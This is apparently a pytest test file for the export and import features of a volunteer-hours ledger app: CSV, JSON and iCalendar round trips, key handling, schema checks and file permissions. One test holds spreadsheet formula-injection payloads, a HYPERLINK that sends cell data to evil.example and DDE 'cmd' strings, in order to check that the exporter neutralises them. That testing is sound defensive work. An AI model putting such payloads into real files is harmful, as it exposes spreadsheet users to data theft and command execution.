"""Exports: okuvol-csv and okuvol-json round trips, iCalendar read back by icalendar."""

from __future__ import annotations

import json
import os
import stat
from datetime import UTC, date, datetime, time, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from icalendar import Calendar

from okuvol_desktop.domain.errors import OkuvolError
from okuvol_desktop.domain.kinds import EntryStatus, WorkKind
from okuvol_desktop.domain.period import Period
from okuvol_desktop.domain.progress import Cancelled
from okuvol_desktop.services.context import ServiceContext
from okuvol_desktop.services.importing import ImportOptions
from okuvol_desktop.services.ledger import Ledger
from okuvol_desktop.services.listing import LogQuery
from okuvol_desktop.services.stats import StatsQuery, stats_document
from okuvol_desktop.storage.database import open_database
from tests.conftest import FixedClock
from tests.services.helpers import dual_role_person, log


@pytest.fixture
def filled(ledger: Ledger) -> Ledger:
    ledger.demo.fill(people=12, entries=400, seed=3)
    return ledger


@pytest.fixture
def empty(template_db: Path, tmp_path: Path, clock: FixedClock) -> Ledger:
    path = tmp_path / "empty.sqlite3"
    path.write_bytes(template_db.read_bytes())
    database = open_database(str(path))
    return Ledger.create(ServiceContext(database.sessions, clock, "Asia/Jakarta"))


def test_csv_export_import_export_gives_the_same_file(
    filled: Ledger, empty: Ledger, tmp_path: Path
) -> None:
    first, second = tmp_path / "first.csv", tmp_path / "second.csv"
    assert filled.exporting.export("csv", first) == 400
    report = empty.importing.run(first, ImportOptions("okuvol-csv"))
    assert report.added == 400 and report.short == 0
    empty.exporting.export("csv", second)
    assert second.read_bytes() == first.read_bytes()
    header = first.read_text(encoding="utf-8").splitlines()[0]
    assert header.startswith(
        "date,start,end,minutes,person,organisation,kind,role,category,description,status"
    )


def test_csv_export_follows_the_filters(filled: Ledger, tmp_path: Path) -> None:
    out = tmp_path / "approved.csv"
    query = LogQuery(
        status=EntryStatus.APPROVED, kind=WorkKind.VOLUNTEER, date_from=date(2026, 6, 1)
    )
    count = filled.exporting.export("csv", out, query)
    rows = out.read_text(encoding="utf-8").splitlines()[1:]
    assert len(rows) == count > 0
    assert all(",volunteer," in r and r.endswith(("approved", "")) for r in rows)
    assert all(r[:10] >= "2026-06-01" for r in rows)


def test_json_holds_everything_and_loads_into_an_empty_ledger(
    filled: Ledger, empty: Ledger, tmp_path: Path
) -> None:
    dual_role_person(filled, "Ani Wulandari")
    filled.goals.put(filled.names.person("Ani Wulandari"), 2026, WorkKind.VOLUNTEER, Decimal(100))
    entry = log(filled, date(2026, 3, 2), hours="3", person="Ani Wulandari")
    filled.approvals.approve([entry.id])
    first, second = tmp_path / "first.json", tmp_path / "second.json"
    filled.exporting.export("json", first, with_keys=True)
    document = json.loads(first.read_text(encoding="utf-8"))
    assert document["format"] == "okuvol-json" and document["version"] == 1
    assert len(document["tables"]["entry"]) == 401
    assert {"person", "organisation", "role", "goal", "certificate", "entry_skill"} <= set(
        document["tables"]
    )
    assert empty.importing.run(first, ImportOptions("okuvol-json")).added == 401
    empty.exporting.export("json", second, with_keys=True)
    again = json.loads(second.read_text(encoding="utf-8"))
    assert again["tables"] == document["tables"]
    year = StatsQuery(Period.year(2026))
    assert stats_document(empty.stats.stats(year)) == stats_document(filled.stats.stats(year))


def test_private_keys_leave_only_when_asked_for_and_old_certificates_still_verify(
    filled: Ledger, empty: Ledger, tmp_path: Path
) -> None:
    from okuvol_desktop.services.certificates import CertificateRequest

    dual_role_person(filled, "Ani Wulandari")
    entry = log(filled, date(2026, 3, 2), hours="3", person="Ani Wulandari")
    filled.approvals.approve([entry.id])
    issued = filled.certificates.issue(
        CertificateRequest(
            filled.names.person("Ani Wulandari"),
            filled.names.organisation("RS Harapan"),
            Period.year(2026),
        ),
        tmp_path / "c.pdf",
    ).certificate
    out = tmp_path / "all.json"
    filled.exporting.export("json", out)
    document = json.loads(out.read_text(encoding="utf-8"))
    assert "private_key" not in document["tables"]
    assert "signing_key" in document["tables"]  # the public halves travel
    empty.importing.run(out, ImportOptions("okuvol-json"))
    for organisation in empty.organisations.by_name(include_archived=True):
        (current, old) = empty.keys.keys(empty.names.organisation(str(organisation.id)))
        assert current.retired_at is None and old.retired_at is not None
        assert organisation.key_fingerprint == current.fingerprint
    # What the old keys signed still verifies in the loaded ledger, file and code.
    for target in (str(tmp_path / "c.pdf"), issued.code):
        assert empty.verification.verify(target).valid


def test_a_damaged_private_key_in_json_is_refused_and_nothing_is_loaded(
    filled: Ledger, empty: Ledger, tmp_path: Path
) -> None:
    out = tmp_path / "all.json"
    filled.exporting.export("json", out, with_keys=True)
    document = json.loads(out.read_text(encoding="utf-8"))
    document["tables"]["private_key"][0]["private_key"] = "bm90IGEga2V5"
    out.write_text(json.dumps(document), encoding="utf-8")
    with pytest.raises(OkuvolError, match="private key of .* is damaged"):
        empty.importing.run(out, ImportOptions("okuvol-json"))
    assert empty.organisations.by_name() == []


def test_json_import_reports_the_hours_it_brought(
    filled: Ledger, empty: Ledger, tmp_path: Path
) -> None:
    out = tmp_path / "all.json"
    filled.exporting.export("json", out)
    entries = [line.entry for line in filled.listing.page(LogQuery(), limit=1_000)]
    report = empty.importing.run(out, ImportOptions("okuvol-json"))
    assert report.added == 400
    for kind in WorkKind:
        assert report.minutes[kind] == sum(e.minutes for e in entries if e.kind is kind) > 0


@pytest.mark.parametrize(
    ("schema", "loads"),
    [
        ("0010", True),
        ("0009", True),
        ("0008", True),
        ("0007", False),
        ("0004", False),
        ("0099", False),
        ("", False),
    ],  # fmt: skip
)
def test_json_of_an_older_schema_loads_only_when_the_tables_are_as_they_were(
    filled: Ledger, empty: Ledger, tmp_path: Path, schema: str, loads: bool
) -> None:
    # 0009 added rules a shared ledger keeps and no column, so 0008's exports load at 0009;
    # 0007 changed the tables of keys and certificates, so theirs no longer do.
    out = tmp_path / "all.json"
    filled.exporting.export("json", out)
    document = json.loads(out.read_text(encoding="utf-8"))
    document["schema"] = schema
    out.write_text(json.dumps(document), encoding="utf-8")
    if loads:
        assert empty.importing.run(out, ImportOptions("okuvol-json")).added == 400
    else:
        with pytest.raises(OkuvolError, match="written by a ledger at schema"):
            empty.importing.run(out, ImportOptions("okuvol-json"))


def test_json_written_before_the_review_history_gets_each_last_review(
    ledger: Ledger, empty: Ledger, tmp_path: Path
) -> None:
    dual_role_person(ledger)
    rejected = log(ledger, date(2026, 3, 2), hours="1")
    approved = log(ledger, date(2026, 3, 3), hours="2")
    ledger.approvals.reject([rejected.id], "Not on the sheet")
    ledger.approvals.approve([approved.id])
    out = tmp_path / "all.json"
    ledger.exporting.export("json", out)
    document = json.loads(out.read_text(encoding="utf-8"))
    document["schema"] = "0009"
    del document["tables"]["entry_review"]
    out.write_text(json.dumps(document), encoding="utf-8")
    empty.importing.run(out, ImportOptions("okuvol-json"))
    [rejection] = empty.approvals.history(rejected.id)
    assert (rejection.status, rejection.note) == (EntryStatus.REJECTED, "Not on the sheet")
    assert [r.status for r in empty.approvals.history(approved.id)] == [EntryStatus.APPROVED]


def test_json_goes_only_into_an_empty_ledger(filled: Ledger, tmp_path: Path) -> None:
    out = tmp_path / "all.json"
    filled.exporting.export("json", out)
    with pytest.raises(OkuvolError, match="empty database"):
        filled.importing.run(out, ImportOptions("okuvol-json"))


def test_json_refuses_filters(filled: Ledger, tmp_path: Path) -> None:
    with pytest.raises(OkuvolError, match="whole ledger"):
        filled.exporting.export("json", tmp_path / "x.json", LogQuery(kind=WorkKind.VOLUNTEER))


def test_ics_parses_into_the_right_events(ledger: Ledger, tmp_path: Path) -> None:
    dual_role_person(ledger)
    timed = log(
        ledger, date(2026, 3, 2), kind=WorkKind.PROFESSIONAL, start=time(22), end=time(6, 30)
    )
    all_day = log(ledger, date(2026, 3, 5), hours="2.5", description="Reading club")
    out = tmp_path / "hours.ics"
    assert ledger.exporting.export("ics", out) == 2
    calendar = Calendar.from_ical(out.read_bytes())
    events = {str(e["uid"]): e for e in calendar.walk("VEVENT")}
    night = events[f"entry-{timed.id}@okuvol.local"]
    # 22:00 to 06:30 in Jakarta (UTC+7) is 15:00 to 23:30 UTC of the same day.
    assert night.decoded("dtstart") == datetime(2026, 3, 2, 15, tzinfo=UTC)
    assert night.decoded("dtend") - night.decoded("dtstart") == timedelta(hours=8, minutes=30)
    assert str(night["summary"]) == "Nurse — RS Harapan"
    day = events[f"entry-{all_day.id}@okuvol.local"]
    assert day.decoded("dtstart") == date(2026, 3, 5)
    assert day.decoded("dtend") == date(2026, 3, 6)
    assert "(2:30 h)" in str(day["summary"])
    assert "Reading club" in str(day["description"])


def test_a_cancelled_export_leaves_no_file(ledger: Ledger, tmp_path: Path) -> None:
    class StopAtOnce:
        def report(self, done: int, total: int) -> None:
            pass

        def cancelled(self) -> bool:
            return True

    ledger.demo.fill(people=12, entries=4_500, seed=4)  # more than one page of 2,000
    out = tmp_path / "big.csv"
    with pytest.raises(Cancelled):
        ledger.exporting.export("csv", out, progress=StopAtOnce())
    assert not out.exists()
    assert list(tmp_path.glob(".big.csv.*")) == []


@pytest.mark.parametrize("umask", [0o022, 0o077])
def test_exported_files_get_the_permissions_the_umask_gives(
    filled: Ledger, tmp_path: Path, umask: int
) -> None:
    # Written beside their name and moved in, files used to be owner-only whatever the umask
    # (tempfile.mkstemp), so a coordinator's exports in a shared folder were unreadable to others.
    previous = os.umask(umask)
    try:
        for fmt in ("csv", "ics", "json"):
            out = tmp_path / f"ledger.{fmt}"
            filled.exporting.export(fmt, out)
            assert stat.S_IMODE(out.stat().st_mode) == 0o666 & ~umask, fmt
    finally:
        os.umask(previous)
    assert list(tmp_path.glob(".*.part")) == []


def test_csv_cells_a_spreadsheet_would_run_are_written_as_text_and_read_back_as_typed(
    ledger: Ledger, empty: Ledger, tmp_path: Path
) -> None:
    import csv as csv_module

    from okuvol_desktop.domain.model import RoleDetails

    names = {
        "description": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "person": "+cmd|' /C calc'!A0",
        "organisation": "@SUM(1+1)*cmd|' /C calc'!A0",
        "role": "-2+3",
        "location": "'quoted already",
    }
    ledger.people.add(names["person"])
    ledger.organisations.add(names["organisation"])
    ledger.roles.add(
        ledger.names.person(names["person"]),
        ledger.names.organisation(names["organisation"]),
        WorkKind.VOLUNTEER,
        RoleDetails(title=names["role"]),
    )
    log(
        ledger, date(2026, 3, 2), hours="1", person=names["person"], org=names["organisation"],
        description=names["description"], location=names["location"],
    )  # fmt: skip
    out = tmp_path / "out.csv"
    ledger.exporting.export("csv", out)
    with out.open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv_module.reader(handle) for cell in row]
    for text in names.values():
        assert text not in cells and "'" + text in cells  # a spreadsheet shows it as text
    empty.importing.run(out, ImportOptions("okuvol-csv"))
    again = tmp_path / "again.csv"
    empty.exporting.export("csv", again)
    assert again.read_bytes() == out.read_bytes()
    (line,) = empty.listing.page(LogQuery(), limit=10)
    assert (line.entry.description, line.entry.location, line.person_name) == (
        names["description"], names["location"], names["person"],
    )  # fmt: skip


def test_json_loads_into_either_database_with_who_changed_and_reviewed_each_entry(
    template_db: Path, ledger: Ledger, clock: FixedClock, tmp_path: Path
) -> None:
    # The shared ledger records its login as the reviewer of what a client approves; a whole
    # ledger loaded by its owner keeps the reviewers and editors the document names.
    path = tmp_path / "source.sqlite3"
    path.write_bytes(template_db.read_bytes())
    source = Ledger.create(
        ServiceContext(open_database(str(path)).sessions, clock, "Asia/Jakarta", user="sari")
    )
    source.demo.fill(people=4, entries=60, seed=5)
    dual_role_person(source, "Ani Wulandari")
    entry = log(source, date(2026, 3, 2), hours="3", person="Ani Wulandari")
    source.approvals.approve([entry.id], note="seen")
    first, second = tmp_path / "first.json", tmp_path / "second.json"
    source.exporting.export("json", first, with_keys=True)
    assert ledger.importing.run(first, ImportOptions("okuvol-json")).added == 61
    ledger.exporting.export("json", second, with_keys=True)
    tables = json.loads(second.read_text(encoding="utf-8"))["tables"]
    assert tables == json.loads(first.read_text(encoding="utf-8"))["tables"]
    (approved,) = [row for row in tables["entry"] if row["id"] == entry.id]
    assert (approved["reviewer"], approved["review_note"]) == ("sari", "seen")


def _with_logo_and_evidence(ledger: Ledger, tmp_path: Path) -> tuple[Path, int]:
    from PIL import Image

    from okuvol_desktop.services.organisations import OrganisationChanges

    logo = tmp_path / "logo.png"
    Image.new("RGB", (8, 8), (200, 30, 30)).save(logo)
    organisation = ledger.organisations.by_name()[0]
    ledger.organisations.edit(
        ledger.names.organisation(organisation.name), OrganisationChanges(logo_path=str(logo))
    )
    scan = tmp_path / "training.pdf"
    scan.write_bytes(bytes(range(256)) * 4)  # every byte value, not only text
    return scan, ledger.entries.add_evidence(1, scan).entry_id


def test_json_carries_logos_and_evidence_files_byte_for_byte(
    filled: Ledger, empty: Ledger, tmp_path: Path
) -> None:
    scan, entry_id = _with_logo_and_evidence(filled, tmp_path)
    out = tmp_path / "all.json"
    filled.exporting.export("json", out)
    empty.importing.run(out, ImportOptions("okuvol-json"))
    (kept,) = empty.entries.evidence(entry_id)
    assert kept.intact and kept.size == 1024
    copy = tmp_path / "copy.pdf"
    empty.entries.save_evidence(kept.id, copy)
    assert copy.read_bytes() == scan.read_bytes()
    logos = [o.logo_sha256 for o in empty.organisations.by_name(include_archived=True)]
    assert any(logos) and logos == [
        o.logo_sha256 for o in filled.organisations.by_name(include_archived=True)
    ]


def test_json_with_a_damaged_picture_loads_nothing(
    filled: Ledger, empty: Ledger, tmp_path: Path
) -> None:
    _with_logo_and_evidence(filled, tmp_path)
    out = tmp_path / "all.json"
    filled.exporting.export("json", out)
    document = json.loads(out.read_text(encoding="utf-8"))
    (picture,) = document["tables"]["picture"]
    document["tables"]["picture"] = [{**picture, "data": picture["data"][:-4] + "!!!!"}]
    out.write_text(json.dumps(document), encoding="utf-8")
    with pytest.raises(OkuvolError, match="picture rows are not as okuvol wrote them"):
        empty.importing.run(out, ImportOptions("okuvol-json"))
    assert empty.people.by_name(include_archived=True) == []
